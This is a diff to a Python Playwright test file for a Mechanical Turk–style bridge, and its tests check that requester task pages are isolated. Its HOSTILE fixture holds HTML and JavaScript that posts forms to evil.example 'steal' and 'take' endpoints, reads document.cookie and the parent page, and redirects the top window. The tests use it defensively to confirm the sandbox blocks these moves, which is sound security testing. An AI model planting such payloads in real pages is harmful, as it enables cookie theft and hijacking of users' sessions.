@@ -2,16 +2,18 @@
 
 from __future__ import annotations
 
-import json
 import re
+import ssl
+import threading
 from collections.abc import Iterator
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 from urllib.parse import unquote
 from xml.sax.saxutils import escape
 
 import pytest
-from playwright.sync_api import Browser, FrameLocator, Page, Route, expect
+from playwright.sync_api import Browser, FrameLocator, Page, expect
 
 from mturk_bridge.operations import OPERATIONS, Call
 from mturk_bridge.store import blocked, hits
@@ -20,7 +22,7 @@ from tests.conftest import Clock, lab
 from tests.mturk.endpoint import EXTERNAL, NAMESPACES, TYPE, with_requester
 from tests.web.serving import serving
 from tests.widgets.conftest import browser
-from workbench import people
+from workbench import certificates, people
 from workbench.context import Context
 from workbench.domain import Role
 from workbench.store import lab as labs
@@ -29,12 +31,15 @@ from workbench.web.app import create_app
 __all__ = ["browser"]
 PATIENCE_MS = 20_000
 HOSTILE = """<!doctype html><html><head><title>Mine</title></head><body>
-<form name="mturk_form" action="https://evil.example/take" method="post" target="_top"><label>Tag <input name="tag"></label></form>
+<form name="mturk_form" action="https://evil.example/take" method="post" target="_top">
+<label>Tag <input name="tag"></label></form>
 <form id="thief" action="https://evil.example/steal" target="_top"><input name="x" value="1"></form>
 <img src="https://evil.example/pixel.gif" alt=""><iframe src="https://evil.example/"></iframe>
 <script>
   const seen = [];
-  const attempt = (name, work) => { try { const found = work(); seen.push(`${name}: ${found}`); } catch (error) { seen.push(`${name}: no`); } };
+  const attempt = (name, work) => {
+    try { const found = work(); seen.push(`${name}: ${found}`); } catch { seen.push(`${name}: no`); }
+  };
   attempt("top", () => { top.location = "https://evil.example/"; return "asked"; });
   attempt("parent", () => parent.document.title);
   attempt("cookie", () => document.cookie || "none");
@@ -48,6 +53,15 @@ HOSTILE = """<!doctype html><html><head><title>Mine</title></head><body>
 </script></body></html>"""
 
 
+THEIR_PAGE = b"""<!doctype html><html lang="en"><title>Task</title>
+<form method="post"><label>Answer <input name="answer"></label>
+<input type="hidden" name="assignmentId"><button>Done</button></form>
+<script>const told = new URLSearchParams(location.search);
+document.forms[0].action = told.get("turkSubmitTo") + "/mturk/externalSubmit";
+document.forms[0].elements.assignmentId.value = told.get("assignmentId");
+try { top.location = "https://evil.example/"; } catch { document.title = "Alone"; }</script></html>"""
+
+
 @dataclass
 class Stage:
     """A lab with a requester, a worker who is signed in, and a browser."""
@@ -57,7 +71,6 @@ class Stage:
     page: Page
     url: str
     asked: list[str]  # addresses outside this lab that the browser asked for
-    elsewhere: dict[str, str]  # what stands on other servers, by address without its query
 
     def ask(self, operation: str, **given: Any) -> dict[str, Any]:
         """What a requester's program asks."""
@@ -90,7 +103,9 @@ class Stage:
         """What the requester reads, by name."""
         found = self.ask("ListAssignmentsForHIT", HITId=hit["HITId"])["Assignments"]
         assert len(found) == 1
-        pairs = re.findall(r"<QuestionIdentifier>(.*?)</QuestionIdentifier><FreeText>(.*?)</FreeText>", found[0]["Answer"], re.DOTALL)
+        pairs = re.findall(
+            r"<QuestionIdentifier>(.*?)</QuestionIdentifier><FreeText>(.*?)</FreeText>", found[0]["Answer"], re.DOTALL
+        )
         return dict(pairs)
 
 
@@ -102,23 +117,44 @@ def stage(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterato
     requester, _ = with_requester(ctx, credit=1_000_000)
     worker = people.enrol(ctx, "Wim", [Role.WORKER], locale="en")
     with serving(create_app(ctx)) as url:
-        context = browser.new_context(viewport={"width": 1280, "height": 900})
+        context = browser.new_context(viewport={"width": 1280, "height": 900}, ignore_https_errors=True)
         page = context.new_page()
         asked: list[str] = []
-        elsewhere: dict[str, str] = {}
-
-        def outside(route: Route) -> None:
-            asked.append(route.request.url)
-            html = elsewhere.get(route.request.url.partition("?")[0])
-            route.abort() if html is None else route.fulfill(body=html, content_type="text/html")
-
-        context.route(re.compile(r"https://"), outside)
+        context.route(re.compile(r"https://(?!localhost)"), lambda route: (asked.append(route.request.url), route.abort()))
         page.goto(url + worker.link_path)
         expect(page.locator("h1")).to_be_visible()
-        yield Stage(ctx, requester, page, url, asked, elsewhere)
+        yield Stage(ctx, requester, page, url, asked)
         page.goto("about:blank")
         context.close()
     ctx.close()
+
+
+class TheirServer(BaseHTTPRequestHandler):
+    """A requester's own server with one page."""
+
+    def do_GET(self) -> None:
+        """The page, whatever is asked."""
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.end_headers()
+        self.wfile.write(THEIR_PAGE)
+
+    def log_message(self, *_: object) -> None:
+        """Nothing."""
+
+
+@pytest.fixture(scope="module")
+def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """The https address of a requester's own server."""
+    certificate, key = certificates.for_host(tmp_path_factory.mktemp("tls"), "127.0.0.1")
+    server = ThreadingHTTPServer(("127.0.0.1", 0), TheirServer)
+    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    tls.load_cert_chain(certificate, key)
+    server.socket = tls.wrap_socket(server.socket, server_side=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"https://localhost:{server.server_port}"
+    server.shutdown()
+    server.server_close()
 
 
 def test_a_page_is_filled_in_and_sent_with_the_button_outside(stage: Stage) -> None:
@@ -163,7 +199,8 @@ def test_a_page_of_its_own_time_works_with_jquery_parameters_and_alerts(stage: S
         <input type="submit" id="submitButton" value="Submit"></form>
         <script>turkSetAssignmentID();
         $(function () {
-          $("#got").val(new URLSearchParams(location.search).get("assignmentId") === $("#assignmentId").val() && turkGetParam("workerId")[0]);
+          const same = new URLSearchParams(location.search).get("assignmentId") === $("#assignmentId").val();
+          $("#got").val(same && turkGetParam("workerId")[0]);
           $("#mturk_form").on("submit", function () { if (!$("#tag").val()) { alert("Write a tag."); return false; } });
         });</script></body></html>"""
     )
@@ -205,15 +242,9 @@ def test_a_script_that_never_ends_leaves_the_page_around_alone(stage: Stage) -> 
     expect(stage.page.locator("framed-page")).to_have_count(0, timeout=PATIENCE_MS)
 
 
-def test_a_page_elsewhere_sends_by_itself_once(stage: Stage) -> None:
+def test_a_page_elsewhere_sends_by_itself_once(stage: Stage, elsewhere: str) -> None:
     """ExternalQuestion: parameters in its address, its own form to turkSubmitTo; the worker goes on, a repeat changes nothing."""
-    stage.elsewhere["https://zender.example/task"] = """<!doctype html><html lang="en"><title>Task</title>
-      <form method="post"><label>Answer <input name="answer"></label><input type="hidden" name="assignmentId"><button>Done</button></form>
-      <script>const told = new URLSearchParams(location.search);
-      document.forms[0].action = told.get("turkSubmitTo") + "/mturk/externalSubmit";
-      document.forms[0].elements.assignmentId.value = told.get("assignmentId");
-      try { document.forms[0].elements.answer.title = String(top.document.title); } catch { document.title = "Alone"; }</script></html>"""
-    hit = stage.offer(EXTERNAL.replace("https://zender.example/task?id=1", "https://zender.example/task?id=1&amp;set=2"))
+    hit = stage.offer(EXTERNAL.replace("https://zender.example/task?id=1", f"{elsewhere}/task?id=1&amp;set=2"))
     here = stage.page.url
     stage.page.get_by_role("button", name="Send", exact=True).click()
     expect(stage.page.get_by_role("status").filter(has_text="button on the page itself")).to_be_visible()
